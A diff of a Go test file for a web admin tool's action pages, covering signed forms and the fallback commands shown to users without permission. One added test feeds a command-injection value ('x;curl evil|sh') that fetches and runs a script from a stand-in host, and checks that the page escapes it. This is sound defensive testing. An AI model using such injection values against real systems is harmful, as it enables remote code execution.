@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"io"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
@@ -120,7 +121,12 @@ func TestAct_RefusesWhatAPageOfThisServerHasNotSent(t *testing.T) {
 		return form
 	}
 	old := own()
-	old.Set("form", f.site.pages.forms.Sign(access.Client{Name: "operator<b>", Role: access.Operator}, time.Now().Add(-access.FormAge)))
+	signed := httptest.NewRequest(http.MethodGet, page, nil)
+	as("operator")(signed)
+	client := access.Client{Name: "operator<b>", Role: access.Operator}
+	old.Set("form", f.site.pages.forms.Sign(signed, client, time.Now().Add(-access.FormAge)))
+	another := access.NewForms() // the forms of another server, for the same token
+	assert.Equal(t, another.Sign(signed, client, time.Unix(1, 0)), f.site.pages.forms.Sign(signed, client, time.Unix(1, 0)))
 	header := func(name, value string) func(*http.Request) {
 		return func(r *http.Request) { r.Header.Set(name, value) }
 	}
@@ -160,8 +166,10 @@ func TestAct_WithoutTheRoleOrTheSettingShowsTheCommand(t *testing.T) {
 		_, body := f.request(http.MethodGet, "/act/unprotect?kind=user&id=7", as(role))
 		assert.Contains(t, body, want, "caretaker unprotect user 7")
 	}
+	_, body := f.request(http.MethodGet, "/act/run?worker=x%3Bcurl+evil%7Csh", as("viewer"))
+	assert.Contains(t, body, "caretaker run &#39;x;curl evil|sh&#39;")
 	off := startActing(t, func(c *Config) { c.Actions = false })
-	_, body := off.request(http.MethodGet, "/act/pause?worker=*", as("admin"))
+	_, body = off.request(http.MethodGet, "/act/pause?worker=*", as("admin"))
 	assert.Contains(t, body, "Pause all workers", "web_actions: true", "caretaker pause --all --reason REASON")
 	assert.Lacks(t, body, "<form class=\"act\"")
 	answer, _ := off.post("/act/pause", url.Values{"worker": {"*"}}, as("admin"))
